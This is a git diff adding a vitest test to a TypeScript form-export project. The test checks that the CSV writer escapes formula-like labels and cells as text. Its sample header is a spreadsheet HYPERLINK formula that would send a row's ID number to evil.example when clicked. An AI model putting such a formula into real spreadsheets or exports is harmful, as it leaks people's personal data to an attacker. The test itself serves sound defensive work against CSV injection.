@@ -3,6 +3,7 @@ import { parse } from 'csv-parse/sync';
 import { FORM_TEMPLATES, type FormDefinition } from '@toolbox/sdk/forms';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { exportColumns } from '../../src/data/exportColumns.ts';
+import { writeRecordsFile } from '../../src/data/writeRecordsFile.ts';
 import type { TestApp } from '../helpers/createTestApp.ts';
 import { testEngines } from '../helpers/engines.ts';
 import { readXlsx } from '../helpers/readFiles.ts';
@@ -99,5 +100,24 @@ describe('export columns', () => {
     const key = ebike.sections.flatMap((s) => s.fields).find((f) => f.kind === 'photo')!.key;
     expect(photo?.cell({ ...record, data: { [key]: [{ id: 'a' }, { id: 'b' }] } }, '')).toBe(2);
     expect(columns.find((c) => c.header === '登记时间')?.cell(record, '')).toBe('2026-02-01 00:30');
+  });
+});
+
+describe('the CSV writer', () => {
+  it('writes a label that Excel would run as a formula as text, in the header as in the cells', async () => {
+    // A form's label is the maker's or developer's text: this one would send the first row's ID number away on a click.
+    const label = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看详情")';
+    const columns = [
+      { header: label, width: 20, cell: () => '-1+1' },
+      { header: '身份证号', width: 20, cell: () => GOOD_ID },
+    ];
+    const record = { id: 'r', data: {}, unitId: 'u', createdBy: 'x', createdAt: '2026-01-31T16:30:00Z', updatedAt: '2026-01-31T16:30:00Z' };
+    const batches = (async function* () {
+      yield [{ record, unitName: '华阳居委会' }];
+    })();
+    const chunks: Buffer[] = [];
+    for await (const chunk of writeRecordsFile('csv', 'sheet', columns, batches)) chunks.push(chunk as Buffer);
+    const rows = parse(Buffer.concat(chunks).subarray(3).toString('utf8')) as string[][];
+    expect(rows).toEqual([[`'${label}`, '身份证号'], ["'-1+1", GOOD_ID]]);
   });
 });
